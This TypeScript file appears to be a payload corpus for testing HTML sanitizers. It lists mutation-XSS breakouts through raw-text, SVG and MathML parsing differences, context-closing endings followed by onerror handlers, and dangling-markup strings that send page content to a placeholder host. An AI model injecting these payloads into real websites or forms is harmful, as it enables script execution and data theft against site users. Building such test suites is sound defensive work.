import type { Family } from "./payloads.ts";

const inner = ["<img src=x: onerror=RUN>", "<svg onload=RUN></svg>", "<script>RUN</script>"];
const rawText =
  "style script title textarea xmp noembed noframes iframe noscript template option select".split(
    " ",
  );

/** Markup that a sanitizer parses differently from a browser. */
const mutated = rawText.flatMap((name) =>
  inner.flatMap((html) => [
    `<${name}></${name}>${html}`,
    `<${name}><a title="</${name}>${html}"></a></${name}>`,
  ]),
);

const foreign = ["<svg>", "<svg><p>", "<math>", "<math><p>"].flatMap((start) =>
  ["style", "title", "xmp", "noscript", "textarea"].map(
    (name) => `${start}<${name}><!--</${name}><img title="--><img src=x: onerror=RUN>"></p>`,
  ),
);

const nested = [
  "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=RUN&gt;'>",
  "<table><caption><svg><title><table></caption></title><img src=x: onerror=RUN>",
  "<noscript><p title='</noscript><img src=x: onerror=RUN>'>",
  "<a><table><a><img src=x: onerror=RUN></table>",
  "<p><svg><desc></p><script>RUN</script>",
  "<select><template shadowrootmode=open></select><img src=x: onerror=RUN>",
  "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x: onerror=RUN>'>",
];

const endings = [
  "</div></article></main></body></html>",
  "</main>",
  "</body>",
  "</p></li></ol></section>",
  "</textarea></title></style></script></noscript></template>",
  "-->",
  "--!>",
  "]]>",
  "?>",
  '">',
  "'>",
  '"/>',
  "`>",
];

const ended = endings.map((ending) => `${ending}<img src=x: onerror=RUN>`);

/** Markup that absorbs whatever follows it into an address, a name, a comment or a text. */
const dangling = [
  "<img src='ELSEWHERE/?",
  '<img src="ELSEWHERE/?',
  "<img src=ELSEWHERE/?",
  "<img srcset='ELSEWHERE/?",
  "<input type=image src='ELSEWHERE/?",
  "<video poster='ELSEWHERE/?",
  "<audio src='ELSEWHERE/?",
  "<iframe src='ELSEWHERE/?",
  "<iframe name='",
  "<iframe srcdoc='<img src=x: onerror=parent.RUN>",
  "<object data='ELSEWHERE/?",
  "<embed src='ELSEWHERE/?",
  "<link rel=stylesheet href='ELSEWHERE/?",
  "<link rel=icon href='ELSEWHERE/?",
  "<script src='ELSEWHERE/?",
  "<script src=ELSEWHERE/a.js x='",
  '<script src="ELSEWHERE/a.js" x="',
  "<script src=data:text/javascript,RUN x=",
  "<script>RUN//",
  "<script>RUN<!--",
  "<style>@import'ELSEWHERE/?",
  "<style>*{background:url('ELSEWHERE/?",
  "<svg><image href='ELSEWHERE/?",
  "<svg><style>@import'ELSEWHERE/?",
  "<table background='ELSEWHERE/?",
  "<form action='ELSEWHERE/?'><button>Send</button><textarea name=all>",
  "<form action=ELSEWHERE/post method=post><button>Send</button><select name=all><option>",
  "<button formaction='ELSEWHERE/?",
  "<base href='ELSEWHERE/",
  "<base target='",
  "<base href=ELSEWHERE/><script src=/assets/entry.js></script>",
  "<base href=javascript:/RUN/><a href=#>a</a>",
  "<a href=# ping='ELSEWHERE/?",
  "<textarea>",
  "<!--",
  "<plaintext>",
  "<xmp>",
  "<title>",
  "<noscript>",
  "<template>",
  "<frameset onload=RUN><frame src=javascript:parent.RUN>",
  "<object><param value='",
  "<div onclick=RUN title='",
  "<svg><script>RUN",
  "<math><mtext><script>RUN",
  "<select><option>",
  "<dialog open><form action=ELSEWHERE/form><button>",
];

export const breakouts: Family[] = [
  { name: "a breakout from raw text", html: mutated },
  { name: "foreign markup that changes when read again", html: foreign },
  { name: "nested markup that changes when read again", html: nested, alone: true },
  { name: "the end of what is around it", html: ended, alone: true },
  { name: "dangling markup", html: dangling, alone: true },
];
